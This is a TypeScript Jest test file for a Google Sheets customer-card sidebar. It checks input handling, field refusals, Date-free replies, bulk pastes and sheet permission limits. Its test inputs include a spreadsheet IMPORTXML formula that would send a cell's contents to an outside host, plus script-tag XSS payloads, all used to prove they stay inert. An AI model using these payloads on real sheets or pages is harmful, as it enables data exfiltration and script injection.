// What people paste and type that no form expects: kept exactly as typed, or refused with a sentence that names the field.
// Generated from the catalogue, so that a new field is tested with the rest. Whole saves cut short: whole-write.test.ts.
import { beforeAll, describe, expect, it } from '@jest/globals';
import type { CardKind, Fields, Language, SidebarApi } from '../../src/contract/sidebar-api';
import { fieldsOfCard, label } from '../../src/domain/catalogue/catalogue';
import type { FieldLine, FieldType } from '../../src/domain/catalogue/field';
import { EmulatedArchive, OWNER } from '../support/emulated-archive';
import { protect } from '../support/protection';

const REP = 'li@example.com';
const VIEWER = 'viewer@example.com';
const KINDS: readonly CardKind[] = ['individual', 'organisation'];
const TITLES = {
  en: { customers: 'Customers', individual: 'Individuals', organisation: 'Organisations' },
  zh: { customers: '客户', individual: '个体客户', organisation: '团体客户' },
} as const;

/** The fields of a card that set-up fills with a formula. */
const SET_UP_FORMULAS = ['tier', 'score', 'funnelLevel'];

const NASTY: readonly string[] = [
  '=IMPORTXML("https://example.com/"&B2,"//a")',
  '=1+1',
  '+86 138 0013 8000',
  '-1',
  '@SUM(A1)',
  '007',
  '1-2',
  '1/2',
  '1e5',
  'TRUE',
  '\'quoted\' and "quoted"',
  '<script>alert("1")</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '<?= 1 ?> {{x}} ${x} `',
  '#REF!',
  '👩‍👩‍👧‍👦 🇨🇳',
  '𠮷野家 龘𪚥',
  'שלום، مرحبا ‮abc‬',
  ' padded\t',
];

/** Any text goes into these, and comes back as it was typed. */
const TEXT_TYPES: readonly FieldType[] = [
  'text',
  'longText',
  'choice',
  'occasion',
  'email',
  'phone',
  'rep',
  'customer',
];
const typedFields = (kind: CardKind): readonly FieldLine[] =>
  fieldsOfCard(kind)
    .map(({ field }) => field)
    .filter(({ key, type, derived }) => derived !== true && type !== 'id' && type !== 'json' && key !== 'kind');
const textFields = (kind: CardKind): readonly FieldLine[] =>
  typedFields(kind).filter(({ type }) => TEXT_TYPES.includes(type));
const strictFields = (kind: CardKind): readonly FieldLine[] =>
  typedFields(kind).filter(({ type }) => !TEXT_TYPES.includes(type));

/** The first field of each type says what the others of that type would. */
const oneOfEachType = (lines: readonly FieldLine[]): readonly FieldLine[] =>
  lines.filter((line, at) => lines.findIndex(({ type }) => type === line.type) === at);

let number = 0;
const requestId = (): string => `3f2504e0-4f89-41d3-9a0c-${String((number += 1)).padStart(12, '0')}`;

function archiveIn(language: Language): EmulatedArchive {
  const archive = new EmulatedArchive({ editors: [REP], viewers: [VIEWER] });
  archive.value('setUpFromSidebar', { language });
  return archive;
}

const create = (archive: EmulatedArchive, kind: CardKind, changes: Fields) =>
  archive.value('saveCardFromSidebar', { kind, requestId: requestId(), changes });

const refusal = (archive: EmulatedArchive, kind: CardKind, changes: Fields, user = OWNER) => {
  const reply = archive.call('saveCardFromSidebar', { kind, requestId: requestId(), changes }, user);
  return reply.ok ? null : reply.error;
};

const everyField = (lines: readonly FieldLine[], text: string): Fields =>
  Object.fromEntries(lines.map(({ key }) => [key, text]));

describe.each(KINDS)('every text field of an %s', (kind) => {
  const lines = textFields(kind);
  let archive: EmulatedArchive;
  beforeAll(() => {
    archive = archiveIn('en');
  });
  const formulasIn = (title: string): readonly unknown[] => {
    const { id, rows, columns } = archive.sheet(title);
    return archive.host.cells
      .formulas(id, { row: 0, column: 0, rows, columns })
      .flatMap((row) => row.flatMap((formula, at) => (formula === null || formula === '' ? [] : [header(title, at)])));
  };
  const header = (title: string, at: number): unknown => archive.rows(title)[0]?.[at];

  it.each(NASTY)('keeps %j exactly, in a new card and in a changed one, and makes no formula of it', (text) => {
    const typed = everyField(lines, text);
    const { id, fields } = create(archive, kind, typed);
    expect(fields).toMatchObject(typed);
    expect(archive.value('loadCardFromSidebar', { id }).fields).toMatchObject(typed);

    const plain = create(archive, kind, { name: 'x' });
    const base = Object.fromEntries(lines.map(({ key }) => [key, plain.fields[key] ?? null]));
    archive.value('saveCardFromSidebar', { id: plain.id, revision: 1, base, changes: typed });
    const changed = archive.value('loadCardFromSidebar', { id: plain.id });
    expect(changed.fields).toMatchObject(typed);
    // What set-up gives every card, and nothing else.
    expect(changed.formulas).toEqual(SET_UP_FORMULAS);
    for (const title of [TITLES.en[kind], 'Change log']) expect(formulasIn(title)).toEqual([]);
    expect(new Set(formulasIn('Customers'))).toEqual(new Set(['Tier', 'Value score', 'Funnel level']));
  });

  it('holds 50,000 characters', () => {
    const full = 'x'.repeat(50_000);
    for (const { key } of oneOfEachType(lines)) {
      expect(create(archive, kind, { name: 'x', [key]: full }).fields[key]).toBe(full);
    }
  });
});

describe.each(['en', 'zh'] as const)('the sentence of a refused field, in %s', (language) => {
  let archive: EmulatedArchive;
  beforeAll(() => {
    archive = archiveIn(language);
  });

  it.each(KINDS)('names the field of an %s that is asked to hold 50,001 characters, and nothing is written', (kind) => {
    const before = archive.snapshot();
    for (const line of oneOfEachType(textFields(kind))) {
      const error = refusal(archive, kind, { name: 'x', [line.key]: 'x'.repeat(50_001) });
      expect(error).toMatchObject({ code: 'invalid-field', field: line.key });
      expect(error?.message).toContain(label(line, language));
      expect(error?.message).toContain('50,000');
    }
    expect(archive.snapshot()).toBe(before);
  });

  it.each(KINDS)('names each field of an %s that is no text, and repeats nothing of what was typed', (kind) => {
    const before = archive.snapshot();
    expect(strictFields(kind).length).toBeGreaterThan(3);
    const one = oneOfEachType(strictFields(kind));
    for (const line of strictFields(kind)) {
      for (const text of ['<b>"x"</b>', ...(one.includes(line) ? ['=1+1', '1/2', '𠮷'] : [])]) {
        const error = refusal(archive, kind, { name: 'x', [line.key]: text });
        expect(error).toMatchObject({ code: 'invalid-field', field: line.key });
        expect(error?.message).toContain(label(line, language));
        expect(error?.message).not.toContain(text);
      }
    }
    expect(archive.snapshot()).toBe(before);
  });
});

describe('a ticked word', () => {
  it('that is no word of the list is kept as typed, markup and formulas too', () => {
    const archive = archiveIn('en');
    for (const kind of KINDS) {
      const lines = typedFields(kind).filter(({ type }) => type === 'ticks');
      const ticks = ['=1+1', '<b>x</b>', '007', '𠮷'];
      const { id } = create(archive, kind, { name: 'x', ...Object.fromEntries(lines.map(({ key }) => [key, ticks])) });
      const { fields, formulas } = archive.value('loadCardFromSidebar', { id });
      for (const { key } of lines) expect(fields[key]).toEqual(ticks);
      expect(formulas).toEqual(SET_UP_FORMULAS);
    }
  });
});

/** False for what google.script.run hands over as it is; a `Date` anywhere turns a whole reply into null there. */
type HoldsDate<T> = T extends Date
  ? true
  : T extends string | number | boolean | null | undefined
    ? false
    : T extends readonly (infer Item)[]
      ? HoldsDate<Item>
      : { readonly [Key in keyof T]-?: HoldsDate<T[Key]> }[keyof T];
type SomeReplyHoldsDate = {
  readonly [Name in keyof SidebarApi]: HoldsDate<ReturnType<SidebarApi[Name]>>;
}[keyof SidebarApi];
/** Does not compile as soon as a reply's type lets a `Date` through. */
const noReplyHoldsADate: true extends SomeReplyHoldsDate ? never : true = true;

describe('a Date in a reply', () => {
  it('is there in none: a date in any cell of a row arrives as text in every call', () => {
    expect(noReplyHoldsADate).toBe(true);
    const archive = archiveIn('en');
    const { id } = create(archive, 'individual', { name: 'A', phone: '1', needDate: '2026-03-08', employer: 'B' });
    for (const title of ['Customers', 'Individuals']) {
      const sheet = archive.sheet(title);
      archive.rows(title)[0]?.forEach((header, column) => {
        if (header === 'ID' || header === 'Kind' || header === 'Revision') return;
        const rect = { row: 1, column, rows: 1, columns: 1 };
        archive.host.cells.write([{ sheetId: sheet.id, rect, values: [[46089.5]], formats: [['yyyy-mm-dd hh:mm']] }]);
      });
    }
    const replies = [
      archive.raw('openFromSidebar', [{}]),
      archive.raw('findCardsFromSidebar', [{ query: '2026' }]),
      archive.raw('loadCardFromSidebar', [{ id }]),
      archive.raw('saveCardFromSidebar', [{ id, base: { needDate: '2026-03-08' }, changes: { needDate: null } }]),
      archive.raw('selectedCardFromSidebar', [{}]),
    ];
    for (const reply of replies) {
      // Null is what arrives instead of a reply that holds a Date.
      expect(reply).toMatchObject({ ok: true });
      expect(JSON.parse(JSON.stringify(reply))).toEqual(reply);
    }
    expect(archive.value('loadCardFromSidebar', { id }).fields).toMatchObject({
      name: '2026-03-08 12:00',
      phone: '2026-03-08 12:00',
      needDate: null,
      employer: '2026-03-08 12:00',
    });
  });
});

describe('five thousand rows pasted at once', () => {
  it('leave every card to be found, loaded and saved, and are not written over by a new one', () => {
    const archive = archiveIn('en');
    const [first, second] = [
      create(archive, 'individual', { name: 'A' }),
      create(archive, 'organisation', { name: 'B' }),
    ];
    const { id: sheetId } = archive.sheet('Customers');
    const pasted = Array.from({ length: 5_000 }, (_, at) => [`Pasted ${at}`, null, `${13_800_000_000 + at}`]);
    archive.host.cells.insertRows(sheetId, 3, 5_000);
    archive.host.cells.write([{ sheetId, rect: { row: 3, column: 1, rows: 5_000, columns: 3 }, values: pasted }]);

    const cards = archive.value('openFromSidebar', {}).cards;
    expect(cards).toEqual(
      expect.arrayContaining([expect.objectContaining({ name: 'A' }), expect.objectContaining({ name: 'B' })]),
    );
    for (const card of [first, second]) {
      const changes = { phone: '007' };
      archive.value('saveCardFromSidebar', { id: card.id, base: { phone: null }, changes });
      expect(archive.value('loadCardFromSidebar', { id: card.id }).fields).toMatchObject(changes);
    }
    const made = create(archive, 'individual', { name: 'C' });
    expect(archive.value('findCardsFromSidebar', { query: 'C' })).toContainEqual(
      expect.objectContaining({ id: made.id }),
    );
    const rows = archive.records('Customers');
    expect(rows.map((row) => row['Name'])).toEqual(['A', 'B', ...pasted.map(([name]) => name), 'C']);
    expect(rows.slice(2, 5_002).map((row) => row['Phone'])).toEqual(pasted.map(([, , phone]) => phone));
  });
});

describe.each([
  ['en', 'you may not edit this part', 'reached Google’s limit of 10 million cells'],
  ['zh', '您无权编辑表格的这一部分', '1000万单元格的上限'],
] as const)('a save that the sheet does not take, in %s', (language, notAllowed, full) => {
  const { customers } = TITLES[language];

  it('is refused with the column where one is protected, and goes through without it', () => {
    const archive = archiveIn(language);
    const card = create(archive, 'individual', { name: 'A', notes: 'before' });
    const notes = fieldsOfCard('individual').find(({ field }) => field.key === 'notes')?.field;
    protect(archive, customers, notes === undefined ? '' : label(notes, language));
    const before = archive.snapshot();
    const base = { notes: 'before', phone: null };
    const request = { id: card.id, revision: 1, base, changes: { notes: '=2', phone: '007' } };
    expect(archive.call('saveCardFromSidebar', request, REP)).toMatchObject({
      ok: false,
      error: { code: 'not-allowed', field: 'notes', message: expect.stringContaining(notAllowed) },
    });
    expect(archive.snapshot()).toBe(before);
    const allowed = { id: card.id, revision: 1, base: { phone: null }, changes: { phone: '007' } };
    expect(archive.value('saveCardFromSidebar', allowed, REP).fields).toMatchObject({ notes: 'before', phone: '007' });
  });

  it('is refused to somebody who may only view, who can still read', () => {
    const archive = archiveIn(language);
    const card = create(archive, 'individual', { name: '𠮷' });
    const before = archive.snapshot();
    expect(refusal(archive, 'individual', { name: 'B' }, VIEWER)).toMatchObject({
      code: 'not-allowed',
      message: expect.stringContaining(notAllowed),
    });
    expect(archive.value('openFromSidebar', {}, VIEWER).cards).toHaveLength(1);
    expect(archive.value('loadCardFromSidebar', { id: card.id }, VIEWER).fields['name']).toBe('𠮷');
    expect(archive.snapshot()).toBe(before);
  });

  it('is refused at Google’s limit of cells, while changes of cards that exist still go through', () => {
    const archive = archiveIn(language);
    const card = create(archive, 'individual', { name: 'A' });
    const { id, rows, columns } = archive.sheet(customers);
    const { cells } = archive.host;
    cells.write([{ sheetId: id, rect: { row: rows - 1, column: 1, rows: 1, columns: 1 }, values: [['typed']] }]);
    const used = cells.sheets().reduce((sum, sheet) => sum + sheet.rows * sheet.columns, 0);
    const other = archive.sheet('Sheet1');
    const filling = Math.floor((10_000_000 - used) / other.columns);
    cells.insertRows(other.id, 1, filling);
    const before = archive.snapshot();
    const request = { kind: 'individual' as const, requestId: requestId(), changes: { name: 'B' } };
    expect(archive.call('saveCardFromSidebar', request)).toMatchObject({
      ok: false,
      error: { code: 'sheet-full', message: expect.stringContaining(full) },
    });
    expect(archive.snapshot()).toBe(before);
    // The change log needs a row too; it has room.
    const change = { id: card.id, revision: 1, base: { phone: null }, changes: { phone: '1-2' } };
    expect(archive.value('saveCardFromSidebar', change).fields['phone']).toBe('1-2');
    cells.deleteRows(other.id, 1, Math.min(filling, Math.ceil((columns * 101) / other.columns) + 1));
    expect(archive.value('saveCardFromSidebar', request).fields['name']).toBe('B');
    expect(archive.records(customers).filter((row) => row[language === 'en' ? 'Name' : '名称'] === 'B')).toHaveLength(
      1,
    );
  });
});
